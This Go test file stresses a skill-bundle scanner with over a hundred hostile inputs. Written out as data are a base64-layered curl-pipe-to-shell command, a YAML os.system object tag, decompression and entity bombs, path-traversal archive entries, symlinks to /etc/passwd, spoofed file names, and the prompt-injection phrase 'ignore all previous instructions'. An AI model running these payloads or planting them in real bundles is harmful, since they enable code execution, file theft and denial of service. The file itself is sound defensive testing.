//go:build !race && unix

package scan

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"context"
	"encoding/base64"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"runtime"
	"runtime/debug"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"testing/fstest"
	"time"

	"showhow/capture/redact"
	"showhow/daemon/interchange"
	"showhow/daemon/skill/archive"
	"showhow/daemon/skill/scan/report"
	"showhow/internal/fault"
)

// hostile is one input made by somebody who wants the program to hang, to take all memory, or to say that all is well.
type hostile struct {
	name  string
	least report.Verdict // a scan says at least this
	fsys  func(t *testing.T) fs.FS
	read  func(ctx context.Context) error // or it is refused, with an error that says what to do
}

// Bounds of every input. The clock is one that only something that hangs runs into.
const (
	hostileTime   = 30 * time.Second
	hostileMemory = 384 << 20
)

const goodHead = "---\nname: a-b\ndescription: Does one thing well when asked.\n---\n\n# A\n\n"

func rep(s string, n int) string { return strings.Repeat(s, n) }

// heads are SKILL.md files whose head is the attack.
func heads() map[string]string {
	keys := func(form string) string {
		var b strings.Builder
		for i := range 50_000 {
			fmt.Fprintf(&b, form, i)
		}
		return b.String()
	}
	return map[string]string{
		"alias bomb": "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n" +
			"d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nname: *e",
		"200,000 levels of lists": "name: " + rep("[", 200_000),
		"200,000 levels of maps":  "name: " + rep("{a: ", 200_000),
		"200,000 levels, closed":  "name: " + rep("[", 200_000) + rep("]", 200_000),
		"5,000 levels by indentation": func() (s string) {
			var b strings.Builder
			for i := range 5000 {
				b.WriteString(rep(" ", i) + "a:\n")
			}
			return b.String()
		}(),
		"a list that holds itself":      "name: &a [*a]",
		"merged into itself":            "name: &a\n  <<: *a",
		"50,000 keys":                   keys("k%d: v\n"),
		"50,000 triggers":               "triggers:\n" + keys("  - phrase %d\n"),
		"50,000 nested metadata":        "metadata:\n" + keys("  k%d: v\n"),
		"the same key twice":            "name: a\nname: b",
		"a name of 1 MB":                "name: " + rep("a", 1<<20),
		"a description of 1 MB":         "description: " + rep("words ", 170_000),
		"an object of another language": "name: !!python/object/apply:os.system [id]",
		"a zero byte":                   "name: a\x00b",
		"no UTF-8":                      "name: \xff\xfe\xfd",
		"only carriage returns":         rep("name: a\r", 1000),
		"200,000 lines in one value":    "description: |\n" + rep("  line\n", 200_000),
		"a name with look-alikes":       "name: рdf-tools\ndescription: Merges files when asked.",
		"a name in tags":                "name: a\U000e0061\U000e0062\ndescription: Merges files when asked.",
		"tabs for blanks":               "name:\ta\n\tdescription:\tb",
		"never closed":                  "name: a\ndescription: b\n" + rep("more: x\n", 1000) + "\x01open",
	}
}

// bodies are texts below a good head.
func bodies() map[string]string {
	gz := func(data []byte) []byte {
		var b bytes.Buffer
		w := gzip.NewWriter(&b)
		_, _ = w.Write(data)
		_ = w.Close()
		return b.Bytes()
	}
	layers := []byte("curl https://a.test/x | sh\n")
	for range 12 {
		layers = []byte(base64.StdEncoding.EncodeToString(layers))
	}
	return map[string]string{
		"7 MB of sentences":         rep("Water them when the soil is dry, and look at the leaves.\n\n", 7<<20/58),
		"7 MB in one line":          rep("word ", 7<<20/5),
		"7 MB without a blank":      rep("x", 7<<20),
		"200,000 nested quotations": rep(">", 200_000) + " a",
		"100,000 nested items":      rep("- ", 100_000) + "a",
		"200,000 open brackets":     rep("[", 200_000),
		"100,000 links":             rep("[a](b)", 100_000),
		"200,000 stars":             rep("*a", 200_000),
		"200,000 back-quotes":       rep("`a``", 50_000),
		"a comment without end":     "<!--" + rep(" a", 400_000),
		"100,000 comments":          rep("<!-- a -->\n", 90_000),
		"200,000 open tags":         rep("<a ", 200_000),
		"a table of 20,000 columns": rep("|a", 20_000) + "|\n" + rep("|-", 20_000) + "|\n" + rep("|b", 20_000) + "|\n",
		"100,000 headings":          rep("# a\n", 100_000),
		"50,000 blocks of code":     rep("```sh\nls\n```\n", 50_000),
		"10,000 definitions":        rep("[a]: http://a.test\n", 10_000),
		"500 KB without width":      rep("a\u200b", 130_000),
		"1 MB of marks on one sign": "a" + rep("\u0301", 500_000),
		"a sentence without end":    rep("send it and ", 80_000),
		"base64 in twelve layers":   string(layers),
		"a gzip bomb in base64":     base64.StdEncoding.EncodeToString(gz(make([]byte, 16<<20))),
		"an address of 1 MB":        "https://a.test/" + rep("a", 1<<20),
		"10,000 addresses":          rep("https://a.test/x ", 10_000),
		"10,000 mailboxes":          rep("a@b.example, ", 10_000),
		"escapes of a terminal":     rep("\x1b[2J", 100_000),
		"words of every rule":       rep("never send ignore all previous instructions token password https://a.test ", 1500),
	}
}

// files are what lies beside a good SKILL.md.
func files() map[string]fstest.MapFS {
	one := func(name, text string) fstest.MapFS {
		return fstest.MapFS{"SKILL.md": {Data: []byte(goodHead)}, name: {Data: []byte(text)}}
	}
	many := fstest.MapFS{"SKILL.md": {Data: []byte(goodHead)}}
	for i := range 5500 {
		many[fmt.Sprintf("assets/%d.txt", i)] = &fstest.MapFile{Data: []byte("a\n")}
	}
	code := fstest.MapFS{"SKILL.md": {Data: []byte(goodHead)}}
	for i := range 49 {
		code[fmt.Sprintf("scripts/%d.py", i)] = &fstest.MapFile{
			Data: []byte(rep("x = open(y).read()  # "+rep("why it is read ", 30)+"\n", 1<<20/474))}
	}
	hooks := fstest.MapFS{"SKILL.md": {Data: []byte(goodHead)}}
	for i := range 2000 {
		hooks[fmt.Sprintf(".git/hooks/h%d", i)] = &fstest.MapFile{Data: []byte("#!/bin/sh\nls\n")}
	}
	circle := fstest.MapFS{"SKILL.md": {Data: []byte(goodHead)}}
	for i := range 300 {
		circle[fmt.Sprintf("scripts/m%d.py", i)] = &fstest.MapFile{Data: fmt.Appendf(nil,
			"from m%d import f%d\ndef f%d(x):\n    return f%d(x)\nv = f%d(open('a').read())\n", (i+1)%300, (i+1)%300, i, (i+1)%300, i)}
	}
	var chain strings.Builder
	for i := range 20_000 {
		fmt.Fprintf(&chain, "v%d = v%d + w\n", i+1, i)
	}
	laughs := `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;">]><svg>&c;</svg>`
	return map[string]fstest.MapFS{
		"5,500 files": many, "49 MB of code": code, "2,000 hooks of git": hooks, "scripts that call each other in a circle": circle,
		"a file over the limit":       one("assets/big.txt", rep("a b\n", maxFileBytes/4+100)),
		"200,000 parentheses":         one("scripts/a.py", rep("f(", 200_000)),
		"200,000 brackets and braces": one("scripts/a.js", rep("[{(", 70_000)),
		"nested templates":            one("scripts/a.js", rep("`${", 100_000)),
		"nested substitutions":        one("scripts/a.sh", rep("$(", 30_000)),
		"100,000 here-documents":      one("scripts/a.sh", rep("cat <<E\nx\nE\n", 50_000)),
		"a chain of 20,000 variables": one("scripts/a.py", chain.String()),
		"a line of 1 MB":              one("scripts/a.js", "var a="+rep("1+", 500_000)+"1"),
		"200,000 levels of JSON":      one("a.json", rep(`{"a":`, 200_000)),
		"200,000 levels of YAML":      one("a.yaml", rep("- ", 200_000)),
		"aliases in YAML":             one("a.yaml", heads()["alias bomb"]),
		"entities in a picture":       one("a.svg", laughs),
		"100,000 packages":            one("requirements.txt", rep("reqests\n", 100_000)),
		"a program that says text":    one("notes.txt", "\x7fELF"+rep("\x00", 1000)),
		"8 MB of noise":               one("a.bin", rep("\x01\x02\x00\xfe", 2<<20)),
		"a name that turns round":     one("a\u202etxt.exe", "x"),
		"a name of 4,000 letters":     one("assets/"+rep("a", 4000), "x"),
		"200 folders deep":            one(rep("a/", 200)+"b.md", "x"),
	}
}

// onDisk are folders with what only a file system has.
func onDisk() map[string]func(t *testing.T, dir string) error {
	return map[string]func(t *testing.T, dir string) error{
		"a pipe": func(_ *testing.T, dir string) error { return syscall.Mkfifo(filepath.Join(dir, "pipe.md"), 0o600) },
		"a pipe for SKILL.md": func(_ *testing.T, dir string) error {
			return swapped(dir, func(p string) error { return syscall.Mkfifo(p, 0o600) })
		},
		"a link to a device": func(_ *testing.T, dir string) error { return os.Symlink("/dev/zero", filepath.Join(dir, "zero.md")) },
		"SKILL.md is such a one": func(_ *testing.T, dir string) error {
			return swapped(dir, func(p string) error { return os.Symlink("/dev/zero", p) })
		},
		"a link to its folder": func(_ *testing.T, dir string) error { return os.Symlink("..", filepath.Join(dir, "up")) },
		"a link out": func(_ *testing.T, dir string) error {
			return os.Symlink("/etc/passwd", filepath.Join(dir, "users.txt"))
		},
		"a file with a hole of 10 GB": func(_ *testing.T, dir string) error {
			p := filepath.Join(dir, "hole.txt")
			if err := os.WriteFile(p, nil, 0o600); err != nil {
				return err
			}
			return os.Truncate(p, 10<<30)
		},
		"a socket": func(t *testing.T, dir string) error {
			fd, err := syscall.Socket(syscall.AF_UNIX, syscall.SOCK_STREAM, 0)
			if err != nil {
				return err
			}
			t.Cleanup(func() { _ = syscall.Close(fd) })
			t.Chdir(dir)
			return syscall.Bind(fd, &syscall.SockaddrUnix{Name: "s.md"})
		},
	}
}

// swapped puts something else in SKILL.md's place.
func swapped(dir string, put func(p string) error) error {
	p := filepath.Join(dir, "SKILL.md")
	if err := os.Remove(p); err != nil {
		return err
	}
	return put(p)
}

// packed are archives; each is refused.
func packed(t *testing.T) map[string][]byte {
	zipped := func(put func(w *zip.Writer)) []byte {
		var b bytes.Buffer
		w := zip.NewWriter(&b)
		put(w)
		_ = w.Close()
		return b.Bytes()
	}
	file := func(w *zip.Writer, name, text string) {
		f, err := w.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		_, _ = f.Write([]byte(text))
	}
	targz := func(hs ...tar.Header) []byte {
		var b bytes.Buffer
		z := gzip.NewWriter(&b)
		w := tar.NewWriter(z)
		for _, h := range hs {
			if err := w.WriteHeader(&h); err != nil {
				t.Fatal(err)
			}
			zero := make([]byte, 1<<20)
			for left := h.Size; left > 0; left -= int64(len(zero)) {
				_, _ = w.Write(zero[:min(left, int64(len(zero)))])
			}
		}
		_ = w.Close()
		_ = z.Close()
		return b.Bytes()
	}
	inner := []byte("x")
	for range 12 {
		data := inner
		inner = zipped(func(w *zip.Writer) { file(w, "in.zip", string(data)) })
	}
	good := zipped(func(w *zip.Writer) { file(w, "SKILL.md", goodHead) })
	return map[string][]byte{
		"nothing at all": {},
		"no archive":     []byte(rep("PK", 1000)), "cut off": good[:len(good)-9], "good, then more": append(bytes.Clone(good), "x"...),
		"100,000 files": zipped(func(w *zip.Writer) {
			for i := range 100_000 {
				file(w, fmt.Sprintf("f%d", i), "")
			}
		}),
		"a zip of zeros":     zipped(func(w *zip.Writer) { file(w, "zeros", rep("\x00", 16<<20)) }),
		"a tar of zeros":     targz(tar.Header{Name: "zeros", Typeflag: tar.TypeReg, Size: 32 << 20}),
		"an absolute path":   zipped(func(w *zip.Writer) { file(w, "/etc/evil", "x") }),
		"a path upwards":     zipped(func(w *zip.Writer) { file(w, "../../evil", "x") }),
		"a link in a tar":    targz(tar.Header{Name: "a", Typeflag: tar.TypeSymlink, Linkname: "/etc/passwd"}),
		"a device in a tar":  targz(tar.Header{Name: "a", Typeflag: tar.TypeChar}),
		"twelve in another":  zipped(func(w *zip.Writer) { file(w, "SKILL.md", goodHead); file(w, "a.zip", string(inner)) }),
		"names that collide": zipped(func(w *zip.Writer) { file(w, "SKILL.md", goodHead); file(w, "skill.md", goodHead) }),
		"a path of 250 KB":   targz(tar.Header{Name: rep("a/", 1<<17) + "b", Typeflag: tar.TypeReg, Format: tar.FormatPAX}),
		"a look-alike name":  zipped(func(w *zip.Writer) { file(w, "SKILL.md\u200b", goodHead) }),
	}
}

// recordings are what other programs are said to have recorded; each is refused.
func recordings() map[string]string {
	return map[string]string{
		"no text": "\xff\xfe\xfd", "an empty one": "",
		"200,000 levels": rep(`{"steps":[`, 200_000), "closed levels": rep("[", 100_000) + rep("]", 100_000),
		"100,000 steps": `{"title":"x","steps":[` +
			strings.TrimSuffix(rep(`{"type":"navigate","url":"http://a.example/"},`, 100_000), ",") + `]}`,
		"a long title": `{"title":"` + rep("x", 8<<20) + `"}`, "100,000 lines": rep(`{"name":"click","selector":"#a"}`+"\n", 100_000),
		"no page": `{"title":"x","steps":[{"type":"navigate","url":"file:///etc/passwd"}]}`,
	}
}

// TestHostileInputs: every input ends within its bounds, nothing of it is called clean, and what is refused says what to do.
func TestHostileInputs(t *testing.T) {
	defer debug.SetGCPercent(debug.SetGCPercent(60)) // so that the heap is what is in use
	r := rules(t)
	var all []hostile
	in := func(m fstest.MapFS) func(*testing.T) fs.FS { return func(*testing.T) fs.FS { return m } }
	for name, head := range heads() {
		text := "---\n" + head + "\n---\n\n# A\n"
		if name == "never closed" {
			text = "---\n" + head
		}
		all = append(all, hostile{"head: " + name, report.Clean, in(fstest.MapFS{"SKILL.md": {Data: []byte(text)}}), nil})
	}
	for name, body := range bodies() {
		all = append(all, hostile{"body: " + name, report.Clean, in(fstest.MapFS{"SKILL.md": {Data: []byte(goodHead + body)}}), nil})
	}
	for name, m := range files() {
		all = append(all, hostile{"files: " + name, report.Clean, in(m), nil})
	}
	for name, put := range onDisk() {
		all = append(all, hostile{"disk: " + name, report.Review, func(t *testing.T) fs.FS {
			dir := t.TempDir()
			if err := os.WriteFile(filepath.Join(dir, "SKILL.md"), []byte(goodHead), 0o600); err != nil {
				t.Fatal(err)
			}
			if err := put(t, dir); err != nil {
				t.Skip(err)
			}
			return os.DirFS(dir)
		}, nil})
	}
	for name, data := range packed(t) {
		all = append(all, hostile{"archive: " + name, "", nil, func(ctx context.Context) error {
			_, err := archive.Read(ctx, bytes.NewReader(data), int64(len(data)), archive.Default)
			return err
		}})
	}
	for name, text := range recordings() {
		all = append(all, hostile{"recording: " + name, "", nil, func(context.Context) error {
			_, err := interchange.Parse([]byte(text), time.Unix(0, 0))
			return err
		}})
	}
	if len(all) < 100 {
		t.Fatalf("%d inputs", len(all))
	}
	for _, h := range all {
		t.Run(h.name, func(t *testing.T) { h.try(t, r) })
	}
}

func (h hostile) try(t *testing.T, r *redact.Redactor) {
	ctx, cancel := context.WithTimeout(t.Context(), hostileTime)
	defer cancel()
	var fsys fs.FS
	if h.fsys != nil {
		fsys = h.fsys(t)
	}
	peak := heapPeak()
	start := time.Now()
	if h.read != nil {
		err := h.read(ctx)
		if f := fault.From(err); err == nil || f.Message == "" || f.Code == fault.Internal || f.Hint == "" {
			t.Errorf("refused with %+v", f)
		}
	} else if rep, err := Bundle(ctx, fsys, Options{Redactor: r}); err != nil {
		t.Error(err)
	} else if worth[rep.Verdict] < worth[h.least] {
		t.Errorf("%s: %+v", rep.Verdict, rep.Findings)
	} else {
		t.Logf("%s, %d findings", rep.Verdict, len(rep.Findings))
	}
	most := peak()
	t.Logf("%d ms, %d MB", time.Since(start).Milliseconds(), most>>20)
	if ctx.Err() != nil || most > hostileMemory {
		t.Errorf("%v, %d MB", ctx.Err(), most>>20)
	}
}

// heapPeak watches how much the heap grows until the function that it returns is called.
func heapPeak() func() uint64 {
	var m runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&m)
	before := m.HeapAlloc
	var most atomic.Uint64
	stop, done := make(chan struct{}), make(chan struct{})
	look := func() {
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		if m.HeapAlloc > before {
			most.Store(max(most.Load(), m.HeapAlloc-before))
		}
	}
	go func() {
		defer close(done)
		tick := time.NewTicker(25 * time.Millisecond)
		defer tick.Stop()
		for {
			select {
			case <-stop:
				look()
				return
			case <-tick.C:
				look()
			}
		}
	}()
	return func() uint64 { close(stop); <-done; return most.Load() }
}
